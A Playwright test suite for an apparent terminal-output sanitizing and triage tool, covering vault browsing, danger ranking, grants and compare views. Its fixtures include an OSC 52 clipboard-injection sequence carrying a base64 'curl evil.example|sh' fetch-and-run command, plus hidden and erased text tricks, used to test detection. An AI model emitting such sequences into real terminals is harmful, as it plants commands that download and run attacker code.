// The investigator's daily use, end to end through the harness: triage in the vault browser
// (grouped streams, an empty stderr named in its capture, removed spans ranked by danger, filters
// by words, category and time, the keyboard), a grant that survives going back to the vault, the
// Screen tab (long line numbers, a hidden blank, the whole last screen) and Compare (no sequence
// split across rows). Screenshots: test-results/screenshots/triage-*.png.
import { expect, test, type Page } from '@playwright/test';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { AuditLog } from '../app/audit';
import { Vault } from '../app/vault';
import { importFile } from '../app/services/import/importer';
import { launchApp, tempDemoVault, REPO, type HarnessApp } from './harness';

const SHOTS = join(REPO, 'test-results/screenshots');
mkdirSync(SHOTS, { recursive: true });

let app: HarnessApp | undefined;
let cleanup: (() => Promise<void>) | undefined;
test.afterEach(async () => {
  await app?.close();
  await cleanup?.();
  app = undefined;
});

function capture(vault: string, argv: string[]): void {
  try {
    execFileSync(process.execPath, [join(REPO, 'dist/airlock.mjs'), 'capture', '--vault', vault, '--sandbox', 'none', '--', ...argv], { stdio: 'ignore' });
  } catch {
    // the command's own exit status; the capture is stored
  }
}

async function setTheme(page: Page, theme: 'dark' | 'light'): Promise<void> {
  if ((await page.evaluate(() => document.documentElement.dataset.theme)) !== theme) await page.getByRole('button', { name: `Switch to ${theme} theme` }).click();
  await expect.poll(() => page.evaluate(() => document.documentElement.dataset.theme)).toBe(theme);
}

async function shot(page: Page, name: string): Promise<void> {
  await page.waitForTimeout(200);
  await page.screenshot({ path: join(SHOTS, `${name}.png`) });
}

async function authorize(a: HarnessApp, sha: string): Promise<void> {
  const prompt = a.nextPrompt();
  await a.page.getByRole('button', { name: 'Show raw bytes' }).click();
  const p = await prompt;
  await p.getByLabel('Reason').fill('incident 4711');
  await p.getByLabel('Type the first 8 hex digits of the digest').fill(sha.slice(0, 8));
  await p.getByRole('button', { name: 'Approve' }).click();
}

test('vault triage: streams grouped, empty stderr named in its capture, ranked by danger, filtered, keyboard', async () => {
  const tmp = await tempDemoVault();
  cleanup = tmp.cleanup;
  // A build whose one clipboard write hides among 600 colour codes, with an empty stderr.
  capture(tmp.vault, ['sh', '-c', 'i=0; while [ $i -lt 300 ]; do printf "\\033[32mok\\033[0m step %s\\n" $i; i=$((i+1)); done; printf "\\033]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\007done\\n"']);
  capture(tmp.vault, ['sh', '-c', 'echo plain; echo warn >&2']);
  // A record from last year (time filter).
  const old = join(tmp.dir, 'old-incident.log');
  await writeFile(old, 'old \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\\n');
  const vault = await Vault.open(tmp.vault);
  await importFile(vault, AuditLog.forVault(vault.root), old, { now: new Date(Date.now() - 400 * 86_400_000) });
  app = await launchApp({ vault: tmp.vault, viewport: { width: 1600, height: 900 } });
  const { page } = app;
  await expect(page.getByTestId('artifact-row').first()).toBeVisible();

  // Grouped: the build capture is one group with one row (stdout); its empty stderr is named in it.
  const build = page.getByTestId('record-group').filter({ hasText: 'Y3VybCBldmlsLmV4YW1wbGV8c2g' });
  await expect(build.getByTestId('artifact-row')).toHaveCount(1);
  await expect(build.getByTestId('empty-stream')).toHaveText('stderr empty');
  // Ranked by danger: the clipboard write first, the 600 colour codes after it.
  const tags = build.getByTestId('removal-tag');
  await expect(tags.first()).toHaveAttribute('data-category', 'clipboard');
  await expect(tags.first()).toHaveText('clipboard ×1');
  await expect(tags.last()).toHaveText('colour ×600');
  // The other capture has both streams as rows in one group.
  await expect(page.getByTestId('record-group').filter({ hasText: 'echo warn' }).getByTestId('artifact-row')).toHaveCount(2);
  await setTheme(page, 'dark');
  await shot(page, 'triage-vault-1600x900-dark');
  await setTheme(page, 'light');
  await shot(page, 'triage-vault-1600x900-light');

  // Filter by class (danger category): only records with a clipboard write.
  const groups = page.getByTestId('record-group');
  const all = await groups.count();
  const clipboard = page.locator('[data-testid=category-filter][data-category=clipboard]');
  const withClipboard = Number(/(\d+)$/.exec((await clipboard.textContent()) ?? '')![1]);
  expect(withClipboard).toBeLessThan(all);
  await clipboard.click();
  await expect(clipboard).toHaveAttribute('aria-pressed', 'true');
  await expect(groups).toHaveCount(withClipboard);
  for (const g of await groups.all()) await expect(g.locator('[data-testid=removal-tag][data-category=clipboard]').first()).toBeVisible();
  await shot(page, 'triage-vault-filtered');
  await page.locator('[data-testid=category-filter][data-category=clipboard]').click();
  // By time: last year's record is gone from the last 24 hours.
  await expect(groups.filter({ hasText: 'old-incident.log' })).toHaveCount(1);
  await page.getByTestId('vault-time').selectOption('day');
  await expect(groups.filter({ hasText: 'old-incident.log' })).toHaveCount(0);
  await page.getByTestId('vault-time').selectOption('any');
  // Most dangerous first: a record with a clipboard write leads.
  await page.getByTestId('vault-sort').selectOption('danger');
  await expect(groups.first().locator('[data-testid=removal-tag]').first()).toHaveAttribute('data-category', 'clipboard');
  await page.getByTestId('vault-sort').selectOption('newest');

  // Keyboard: / filters by words, Enter goes to the first row, ↓ moves, Enter opens.
  await page.getByTestId('artifact-row').first().focus();
  await page.keyboard.press('/');
  await expect(page.getByTestId('vault-filter')).toBeFocused();
  await page.keyboard.type('echo warn');
  await expect(page.getByTestId('vault-shown')).toHaveText('1 record · 2 streams shown');
  await page.keyboard.press('Enter');
  await expect(page.getByTestId('artifact-row').first()).toBeFocused();
  await page.keyboard.press('ArrowDown');
  await expect(page.getByTestId('artifact-row').nth(1)).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(page.locator('[data-testid=stream-tab][data-stream=stderr]')).toHaveAttribute('aria-selected', 'true');
  await expect(page.getByTestId('text-view')).toContainText('warn');
  // Back: the filter and the row are where they were.
  await page.getByRole('button', { name: 'Back to the vault' }).click();
  await expect(page.getByTestId('vault-filter')).toHaveValue('echo warn');
  await expect(page.getByTestId('artifact-row').nth(1)).toBeFocused();
  await page.keyboard.press('Escape');
  await page.getByTestId('vault-filter').press('Escape');
  await expect(page.getByTestId('vault-filter')).toHaveValue('');

  // The narrow window: the same triage fits.
  await page.setViewportSize({ width: 1000, height: 700 });
  await setTheme(page, 'dark');
  await shot(page, 'triage-vault-1000x700-dark');
  const width = await page.evaluate(() => document.documentElement.scrollWidth);
  expect(width).toBeLessThanOrEqual(1000);
});

test('a grant survives going back to the vault and reopening, until it is revoked', async () => {
  const tmp = await tempDemoVault();
  cleanup = tmp.cleanup;
  const file = join(tmp.dir, 'incident.log');
  const bytes = Buffer.from('deploy ok\n\x1b]52;c;ZWNobyBwd25lZA==\x07tail\n\x1b[31mred\x1b[0m done\n');
  await writeFile(file, bytes);
  app = await launchApp({ vault: tmp.vault, viewport: { width: 1280, height: 800 } });
  const { page } = app;
  app.setNextOpenFile(file);
  await page.getByRole('button', { name: 'Open file…' }).click();
  await expect(page.getByTestId('text-line').first()).toBeVisible();
  const sha = createHash('sha256').update(bytes).digest('hex');
  await authorize(app, sha);
  await expect(page.getByTestId('hex-row').first()).toBeVisible();

  // Back to the vault: the grant stands (main still holds it; nothing revoked), and says so.
  await page.getByRole('button', { name: 'Back to the vault' }).click();
  await expect(page.getByTestId('vault-grant')).toHaveCount(1);
  await expect(page.getByTestId('vault-grant')).toContainText('expires in');
  await expect(page.locator(`[data-testid=artifact-row][data-ref="restricted:sha256:${sha}"] [data-testid=row-granted]`)).toBeVisible();
  expect(await app.auditActions()).not.toContain('raw.revoked');
  expect(await page.evaluate(async () => (await window.airlock.listGrants()).length)).toBe(1);
  // The focus is back on the row of the artifact just left.
  await expect(page.locator(`[data-testid=artifact-row][data-ref="restricted:sha256:${sha}"]`)).toBeFocused();
  await shot(page, 'triage-vault-grant');

  // Reopen: the grant is found again, no new prompt.
  let prompts = 0;
  app.context.on('page', () => prompts++);
  await page.locator(`[data-testid=artifact-row][data-ref="restricted:sha256:${sha}"]`).dblclick();
  await expect(page.getByTestId('hex-row').first()).toBeVisible();
  await expect(page.getByTestId('grant-banner')).toBeVisible();
  expect(prompts).toBe(0);
  expect((await app.auditActions()).filter((a) => a === 'raw.granted')).toHaveLength(1);

  // Revoke from the vault browser: it ends in main; reopening asks again.
  await page.getByRole('button', { name: 'Back to the vault' }).click();
  await page.getByTestId('vault-grant').getByRole('button', { name: 'Revoke' }).click();
  await expect(page.getByTestId('vault-grant')).toHaveCount(0);
  expect(await app.auditActions()).toContain('raw.revoked');
  await page.locator(`[data-testid=artifact-row][data-ref="restricted:sha256:${sha}"]`).dblclick();
  await expect(page.getByRole('button', { name: 'Show raw bytes' })).toBeVisible();
  await expect(page.getByTestId('hex-row')).toHaveCount(0);
});

test('screen tab: a five-digit line number beside its link, a hidden blank drawn visibly, the whole last screen', async () => {
  const tmp = await tempDemoVault();
  cleanup = tmp.cleanup;
  const file = join(tmp.dir, 'long-build.log');
  const lines: string[] = [];
  for (let i = 0; i < 12_000; i++) lines.push(`line ${i}\n`);
  // A single space printed and then overwritten (CR, X), an erased word, and a concealed one.
  lines.push(' \rX\n', 'secret word\x1b[2K\rvisible\n', 'ok \x1b[8mhidden\x1b[28m\n');
  await writeFile(file, lines.join(''));
  app = await launchApp({ vault: tmp.vault, viewport: { width: 1600, height: 900 } });
  const { page } = app;
  app.setNextOpenFile(file);
  await page.getByRole('button', { name: 'Open file…' }).click();
  await expect(page.getByTestId('text-line').first()).toBeVisible();
  await page.getByRole('tab', { name: 'Screen' }).click();
  const panel = page.getByTestId('screen-panel');
  await expect(panel.getByTestId('screen-finding').first()).toBeVisible();
  // The blank: named, drawn as a mark, never an empty row.
  const blank = panel.getByTestId('screen-finding').filter({ has: page.getByTestId('screen-blank') });
  await expect(blank).toHaveCount(1);
  await expect(blank.getByTestId('screen-blank')).toContainText('·');
  await expect(blank).toContainText('(1 space)');
  // Every finding: its line number and the "by" link side by side, never over each other.
  for (const f of await panel.getByTestId('screen-finding').all()) {
    if ((await f.locator('.by').count()) === 0 || (await f.locator('.fl').count()) === 0) continue;
    const fl = await f.locator('.fl').boundingBox();
    const by = await f.locator('.by').boundingBox();
    if (!fl || !by) continue;
    expect(fl.x + fl.width, 'the line number ends before the link').toBeLessThanOrEqual(by.x + 0.5);
    expect(await f.locator('.fl').textContent()).toMatch(/^L\d{5}:/);
  }
  // The whole last screen (24 rows) shows without scrolling the panel.
  const last = await panel.getByTestId('screen-last').boundingBox();
  const body = await page.locator('.side-body').boundingBox();
  expect(last!.y + last!.height, 'the last screen ends inside the panel').toBeLessThanOrEqual(body!.y + body!.height + 0.5);
  expect(last!.y).toBeGreaterThanOrEqual(body!.y - 0.5);
  const rows = await panel.getByTestId('screen-last').evaluate((el) => ({ scroll: el.scrollHeight, client: el.clientHeight }));
  expect(rows.scroll).toBeLessThanOrEqual(rows.client);
  await setTheme(page, 'dark');
  await shot(page, 'triage-screen-dark');
  await setTheme(page, 'light');
  await shot(page, 'triage-screen-light');
});

test('compare: one escape sequence is never split across two rows', async () => {
  const tmp = await tempDemoVault();
  cleanup = tmp.cleanup;
  const file = join(tmp.dir, 'seed.log');
  const bytes = Buffer.from('build: \x1b[31mFAIL\x1b[0m\nnotice\x1b[1A\x1b]8;;https://example.invalid\x1b\\open\x1b]8;;\x1b\\\rPASS\n');
  await writeFile(file, bytes);
  app = await launchApp({ vault: tmp.vault, viewport: { width: 1280, height: 800 } });
  const { page } = app;
  app.setNextOpenFile(file);
  await page.getByRole('button', { name: 'Open file…' }).click();
  await expect(page.getByTestId('text-line').first()).toBeVisible();
  await authorize(app, createHash('sha256').update(bytes).digest('hex'));
  await expect(page.getByTestId('hex-row').first()).toBeVisible();
  await page.getByRole('tab', { name: 'Compare raw / clean' }).click();
  await expect(page.getByTestId('compare-raw').first()).toBeVisible();
  await expect.poll(async () => (await page.getByTestId('compare-raw').allTextContents()).join('|')).toContain('^[[1A');
  const raws = await page.getByTestId('compare-raw').evaluateAll((els) => els.map((e) => e.getAttribute('title') ?? ''));
  for (const r of raws) expect(r, `a row ends inside a sequence: ${r}`).not.toMatch(/\^\[$/);
  expect(raws.join('|')).toContain('notice|^[[1A^[]8;;https://example.invalid^[\\\\open');
  await setTheme(page, 'dark');
  await shot(page, 'triage-compare');
});
